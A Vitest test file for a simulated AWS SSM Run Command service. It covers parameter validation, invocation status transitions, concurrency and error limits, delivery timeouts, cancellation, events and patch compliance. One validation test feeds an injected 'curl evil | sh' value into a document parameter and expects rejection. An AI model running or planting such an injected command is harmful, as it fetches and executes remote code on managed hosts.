// Run Command in the simulated SSM: validation, eventual consistency, MaxConcurrency/MaxErrors,
// Delivery Timed Out for a ConnectionLost agent, events and patch state.
import { beforeEach, describe, expect, test } from 'vitest';
import { createClock, type SimClock } from '../../sandbox/clock.ts';
import { createSsmService, type SsmState } from '../../sandbox/ssm/index.ts';
import type { BusEvent, ServiceDef } from '../../sandbox/types.ts';
import { operationCaller, type Out } from '../helpers/ssm-sim.ts';

const START = new Date('2025-03-04T03:02:11.517Z');

let clock: SimClock;
let def: ServiceDef;
let state: SsmState;
let events: BusEvent[];

const { call, callError } = operationCaller(() => def);
const iid = (n: number): string => `i-${n.toString(16).padStart(17, '0')}`;
const invocations = async (CommandId: string): Promise<Out[]> =>
  (await call('ListCommandInvocations', { CommandId, MaxResults: 50 })).CommandInvocations as Out[];
const statuses = async (CommandId: string): Promise<string[]> =>
  (await invocations(CommandId)).map((i) => `${String(i.Status)}/${String(i.StatusDetails)}`);
const command = async (CommandId: string): Promise<Out> =>
  ((await call('ListCommands', { CommandId })).Commands as Out[])[0] ?? {};

const RESTART_DOC = {
  schemaVersion: '2.2',
  description: 'Restart the SSM agent',
  parameters: {
    Reason: { type: 'String', allowedPattern: '^[A-Za-z0-9 _-]{1,64}$' },
    Mode: { type: 'String', default: 'restart', allowedValues: ['restart', 'reload'] },
  },
  mainSteps: [
    {
      action: 'aws:runShellScript',
      name: 'restartAgent',
      inputs: { runCommand: ['systemctl restart amazon-ssm-agent'] },
    },
  ],
};

beforeEach(() => {
  clock = createClock({ manual: true, start: START });
  events = [];
  ({ def, state } = createSsmService({
    clock,
    events: { emit: (e) => events.push(e) },
    account: '123456789012',
    region: 'us-east-1',
  }));
  for (let i = 1; i <= 60; i++)
    state.addInstance({ InstanceId: iid(i), tags: { Env: i <= 10 ? 'prod' : 'dev' } });
  state.addDocument({ name: 'Remediator-RestartAgent', content: RESTART_DOC, type: 'Command' });
  state.setCommandDurations({ dispatchMs: 500, pickupMs: 500, runMs: 10_000, consistencyMs: 2_000 });
});

describe('SendCommand validation', () => {
  test('more than 50 InstanceIds is a ValidationException', async () => {
    const ids = Array.from({ length: 51 }, (_, i) => iid(i + 1));
    expect(
      (
        await callError('SendCommand', {
          DocumentName: 'AWS-RunPatchBaseline',
          InstanceIds: ids,
          Parameters: { Operation: ['Scan'] },
        })
      ).code,
    ).toBe('ValidationException');
  });

  test('malformed ids are ValidationException; unknown or stopped instances are InvalidInstanceId', async () => {
    const base = { DocumentName: 'AWS-RunPatchBaseline', Parameters: { Operation: ['Scan'] } };
    expect((await callError('SendCommand', { ...base, InstanceIds: ['server-1'] })).code).toBe(
      'ValidationException',
    );
    expect((await callError('SendCommand', { ...base, InstanceIds: ['i-0aaaaaaaaaaaaaaaa'] })).code).toBe(
      'InvalidInstanceId',
    );
    state.setInstanceState(iid(3), 'stopped');
    expect((await callError('SendCommand', { ...base, InstanceIds: [iid(3)] })).code).toBe(
      'InvalidInstanceId',
    );
  });

  test('documents: unknown or Automation → InvalidDocument; parameters checked → InvalidParameters', async () => {
    const ids = [iid(1)];
    expect((await callError('SendCommand', { DocumentName: 'Nope', InstanceIds: ids })).code).toBe(
      'InvalidDocument',
    );
    expect(
      (await callError('SendCommand', { DocumentName: 'AWS-RestartEC2Instance', InstanceIds: ids })).code,
    ).toBe('InvalidDocument');
    const bad = async (Parameters: Record<string, string[]>): Promise<string> =>
      (
        await callError('SendCommand', {
          DocumentName: 'Remediator-RestartAgent',
          InstanceIds: ids,
          Parameters,
        })
      ).code;
    expect(await bad({ Reason: ['agent down'], Extra: ['x'] })).toBe('InvalidParameters'); // undeclared
    expect(await bad({})).toBe('InvalidParameters'); // missing required
    expect(await bad({ Reason: ['x; curl evil | sh'] })).toBe('InvalidParameters'); // allowedPattern
    expect(await bad({ Reason: ['ok'], Mode: ['kill'] })).toBe('InvalidParameters'); // allowedValues
    expect(
      (
        await callError('SendCommand', {
          DocumentName: 'AWS-RunPatchBaseline',
          InstanceIds: ids,
          Parameters: { Operation: ['Patch'] },
        })
      ).code,
    ).toBe('InvalidParameters');
  });

  test('TimeoutSeconds 30–2592000, Targets ≤ 5', async () => {
    const base = {
      DocumentName: 'AWS-RunPatchBaseline',
      InstanceIds: [iid(1)],
      Parameters: { Operation: ['Scan'] },
    };
    expect((await callError('SendCommand', { ...base, TimeoutSeconds: 29 })).code).toBe(
      'ValidationException',
    );
    expect((await callError('SendCommand', { ...base, TimeoutSeconds: 2_592_001 })).code).toBe(
      'ValidationException',
    );
    const Targets = Array.from({ length: 6 }, (_, i) => ({ Key: `tag:K${i}`, Values: ['v'] }));
    expect(
      (
        await callError('SendCommand', {
          DocumentName: 'AWS-RunPatchBaseline',
          Targets,
          Parameters: { Operation: ['Scan'] },
        })
      ).code,
    ).toBe('ValidationException');
  });

  test('the response is Pending with zero counts and defaults MaxConcurrency 50 / MaxErrors 0', async () => {
    const out = await call('SendCommand', {
      DocumentName: 'AWS-RunPatchBaseline',
      InstanceIds: [iid(1)],
      Parameters: { Operation: ['Scan'] },
    });
    expect(out.Command).toMatchObject({
      Status: 'Pending',
      StatusDetails: 'Pending',
      TargetCount: 0,
      CompletedCount: 0,
      ErrorCount: 0,
      DeliveryTimedOutCount: 0,
      MaxConcurrency: '50',
      MaxErrors: '0',
      TimeoutSeconds: 3600,
      RequestedDateTime: START.getTime() / 1000,
    });
  });
});

describe('invocation lifecycle', () => {
  test('InvocationDoesNotExist right after SendCommand, then Pending (-1) → InProgress → Success', async () => {
    const out = await call('SendCommand', {
      DocumentName: 'Remediator-RestartAgent',
      InstanceIds: [iid(1)],
      Parameters: { Reason: ['agent down'] },
    });
    const CommandId = String((out.Command as Out).CommandId);
    const get = { CommandId, InstanceId: iid(1) };
    expect((await callError('GetCommandInvocation', get)).code).toBe('InvocationDoesNotExist');
    expect(await invocations(CommandId)).toHaveLength(0);
    await clock.advance(600); // command InProgress, invocation dispatched but not picked up yet
    expect((await callError('GetCommandInvocation', get)).code).toBe('InvocationDoesNotExist');
    await clock.advance(1_400); // visible now, agent picked it up at 1000ms
    const running = await call('GetCommandInvocation', get);
    expect(running).toMatchObject({ Status: 'InProgress', PluginName: 'restartAgent', ResponseCode: -1 });
    await clock.advance(10_000);
    const done = await call('GetCommandInvocation', get);
    expect(done).toMatchObject({
      Status: 'Success',
      StatusDetails: 'Success',
      ResponseCode: 0,
      ExecutionEndDateTime: '2025-03-04T03:02:22.517Z',
    });
    expect((await command(CommandId)).Status).toBe('Success');
  });

  test('PluginName is required for a multi-step document', async () => {
    const out = await call('SendCommand', {
      DocumentName: 'AWS-RunPatchBaseline',
      InstanceIds: [iid(1)],
      Parameters: { Operation: ['Scan'] },
    });
    const CommandId = String((out.Command as Out).CommandId);
    await clock.advance(20_000);
    expect((await callError('GetCommandInvocation', { CommandId, InstanceId: iid(1) })).code).toBe(
      'InvalidPluginName',
    );
    expect(
      await call('GetCommandInvocation', { CommandId, InstanceId: iid(1), PluginName: 'PatchLinux' }),
    ).toMatchObject({ Status: 'Success' });
  });

  test('MaxConcurrency caps invocations in progress', async () => {
    const out = await call('SendCommand', {
      DocumentName: 'Remediator-RestartAgent',
      Targets: [{ Key: 'tag:Env', Values: ['prod'] }],
      Parameters: { Reason: ['rollout'] },
      MaxConcurrency: '3',
    });
    const CommandId = String((out.Command as Out).CommandId);
    let maxSeen = 0;
    for (let t = 0; t < 60; t++) {
      await clock.advance(1_000);
      const cmd = state.getCommand(CommandId);
      const inProgress = cmd?.invocations.filter((i) => i.Status === 'InProgress').length ?? 0;
      maxSeen = Math.max(maxSeen, inProgress);
    }
    expect(maxSeen).toBe(3);
    const all = await statuses(CommandId);
    expect(all).toHaveLength(10);
    expect(all.every((s) => s === 'Success/Success')).toBe(true);
    expect(await command(CommandId)).toMatchObject({
      Status: 'Success',
      TargetCount: 10,
      CompletedCount: 10,
    });
  });

  test('MaxConcurrency as a percentage', async () => {
    const out = await call('SendCommand', {
      DocumentName: 'Remediator-RestartAgent',
      Targets: [{ Key: 'tag:Env', Values: ['prod'] }],
      Parameters: { Reason: ['rollout'] },
      MaxConcurrency: '20%',
    });
    const CommandId = String((out.Command as Out).CommandId);
    await clock.advance(3_000);
    expect(state.getCommand(CommandId)?.invocations.filter((i) => i.Status === 'InProgress')).toHaveLength(2);
  });

  test('after MaxErrors is exceeded the rest are Cancelled/Terminated and the command Failed', async () => {
    state.setCommandOutcome({
      document: 'AWS-RunPatchBaseline',
      instanceId: [iid(1), iid(2)],
      outcome: 'Failed',
      responseCode: 1,
      error: 'yum lock held',
    });
    const ids = Array.from({ length: 6 }, (_, i) => iid(i + 1));
    const out = await call('SendCommand', {
      DocumentName: 'AWS-RunPatchBaseline',
      InstanceIds: ids,
      Parameters: { Operation: ['Install'] },
      MaxConcurrency: '1',
      MaxErrors: '1',
    });
    const CommandId = String((out.Command as Out).CommandId);
    await clock.advance(120_000);
    expect(await statuses(CommandId)).toEqual([
      'Failed/Failed',
      'Failed/Failed',
      'Cancelled/Terminated',
      'Cancelled/Terminated',
      'Cancelled/Terminated',
      'Cancelled/Terminated',
    ]);
    expect(await command(CommandId)).toMatchObject({
      Status: 'Failed',
      StatusDetails: 'Failed',
      ErrorCount: 2,
      CompletedCount: 6,
    });
    const failed = await call('GetCommandInvocation', {
      CommandId,
      InstanceId: iid(1),
      PluginName: 'PatchLinux',
    });
    expect(failed).toMatchObject({
      Status: 'Failed',
      ResponseCode: 1,
      StandardErrorContent: 'yum lock held',
    });
    // Filtering by detailed status.
    const terminated = await call('ListCommandInvocations', {
      CommandId,
      Filters: [{ key: 'Status', value: 'Terminated' }],
    });
    expect(terminated.CommandInvocations).toHaveLength(4);
  });

  test('a ConnectionLost agent never picks the command up: Delivery Timed Out after TimeoutSeconds, not an error', async () => {
    state.setPingStatus(iid(2), 'ConnectionLost');
    const out = await call('SendCommand', {
      DocumentName: 'Remediator-RestartAgent',
      InstanceIds: [iid(1), iid(2)],
      Parameters: { Reason: ['check'] },
      TimeoutSeconds: 60,
    });
    const CommandId = String((out.Command as Out).CommandId);
    await clock.advance(30_000);
    expect(await statuses(CommandId)).toEqual(['Success/Success', 'Pending/Pending']);
    await clock.advance(30_000);
    expect(await statuses(CommandId)).toEqual(['Success/Success', 'TimedOut/Delivery Timed Out']);
    expect(await command(CommandId)).toMatchObject({
      Status: 'TimedOut',
      StatusDetails: 'Delivery Timed Out',
      ErrorCount: 0,
      DeliveryTimedOutCount: 1,
    });
  });

  test('an agent that reconnects before the timeout picks the command up', async () => {
    state.setPingStatus(iid(2), 'ConnectionLost');
    const out = await call('SendCommand', {
      DocumentName: 'Remediator-RestartAgent',
      InstanceIds: [iid(2)],
      Parameters: { Reason: ['check'] },
    });
    const CommandId = String((out.Command as Out).CommandId);
    await clock.advance(60_000);
    expect(await statuses(CommandId)).toEqual(['Pending/Pending']);
    state.setPingStatus(iid(2), 'Online');
    await clock.advance(11_000);
    expect(await statuses(CommandId)).toEqual(['Success/Success']);
  });

  test('CancelCommand cancels what has not finished', async () => {
    const out = await call('SendCommand', {
      DocumentName: 'Remediator-RestartAgent',
      InstanceIds: [iid(1), iid(2)],
      Parameters: { Reason: ['x'] },
    });
    const CommandId = String((out.Command as Out).CommandId);
    await clock.advance(2_000);
    await call('CancelCommand', { CommandId });
    expect(await statuses(CommandId)).toEqual(['Cancelled/Cancelled', 'Cancelled/Cancelled']);
    expect((await command(CommandId)).Status).toBe('Cancelled');
    expect(
      (await callError('CancelCommand', { CommandId: '00000000-0000-4000-8000-000000000000' })).code,
    ).toBe('InvalidCommandId');
  });
});

describe('events and patch state', () => {
  test('kebab-case command and invocation events with resources matching instance-id', async () => {
    state.setCommandOutcome({ document: 'AWS-RunPatchBaseline', instanceId: iid(2), outcome: 'Failed' });
    state.setPatchState(iid(1), { compliance: 'NON_COMPLIANT', missingCount: 4 });
    state.setPatchState(iid(2), { compliance: 'NON_COMPLIANT', missingCount: 4 });
    events.length = 0;
    const out = await call('SendCommand', {
      DocumentName: 'AWS-RunPatchBaseline',
      InstanceIds: [iid(1), iid(2)],
      Parameters: { Operation: ['Install'] },
      MaxErrors: '1',
    });
    const CommandId = String((out.Command as Out).CommandId);
    await clock.advance(30_000);
    const inv = events.filter(
      (e) => e['detail-type'] === 'EC2 Command Invocation Status-change Notification',
    );
    const failed = inv.find((e) => e.detail.status === 'Failed');
    expect(failed).toMatchObject({
      source: 'aws.ssm',
      resources: [`arn:aws:ec2:us-east-1:123456789012:instance/${iid(2)}`],
      detail: {
        'command-id': CommandId,
        'document-name': 'AWS-RunPatchBaseline',
        'instance-id': iid(2),
        'requested-date-time': '2025-03-04T03:02:11.517Z',
        status: 'Failed',
      },
    });
    expect(Object.keys(failed?.detail ?? {}).sort()).toEqual([
      'command-id',
      'document-name',
      'instance-id',
      'requested-date-time',
      'status',
    ]);
    const cmdEvents = events.filter((e) => e['detail-type'] === 'EC2 Command Status-change Notification');
    expect(cmdEvents.map((e) => e.detail.status)).toEqual(['Pending', 'InProgress', 'Failed']);
    expect(cmdEvents[2]?.detail).toMatchObject({
      'expire-after': '2025-03-04T04:02:11.517Z',
      parameters: { Operation: ['Install'], RebootOption: ['RebootIfNeeded'] },
    });
    expect(cmdEvents[2]?.resources).toEqual(
      [iid(1), iid(2)].map((i) => `arn:aws:ec2:us-east-1:123456789012:instance/${i}`),
    );
    // Patch state: the successful install made instance 1 compliant; instance 2 stays non-compliant.
    expect(state.getInstance(iid(1))?.patch).toMatchObject({
      compliance: 'COMPLIANT',
      missingCount: 0,
      operation: 'Install',
    });
    expect(state.getInstance(iid(2))?.patch).toMatchObject({ compliance: 'NON_COMPLIANT', failedCount: 1 });
    const compliance = events.filter((e) => e['detail-type'] === 'Configuration Compliance State Change');
    expect(compliance.map((e) => [e.detail['resource-id'], e.detail['compliance-status']])).toEqual([
      [iid(1), 'compliant'],
    ]);
  });
});
